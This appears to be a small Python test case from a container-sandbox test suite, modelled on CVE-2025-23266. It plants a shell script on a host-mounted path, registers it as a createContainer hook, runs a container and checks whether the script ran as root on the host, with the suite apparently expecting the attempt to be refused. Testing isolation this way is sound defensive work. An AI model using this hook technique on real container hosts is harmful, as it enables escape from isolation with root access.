"""A createContainer hook runs as root with the host's files, in the container's namespaces."""

import os

from bypass import refused

SOURCE = "CVE-2025-23266: its ingredient"
WAY = "create"
STOPPED = refused("hook")


def attack(t):
    t.write("/mnt/host/hook", "#!/bin/sh\nread line\nid -u > /mnt/host/written\n", 0o755)
    t.hook("createContainer", "/mnt/host/hook")
    t.run("true")
    return os.path.exists("/mnt/host/written") and "uid " + t.read("/mnt/host/written")
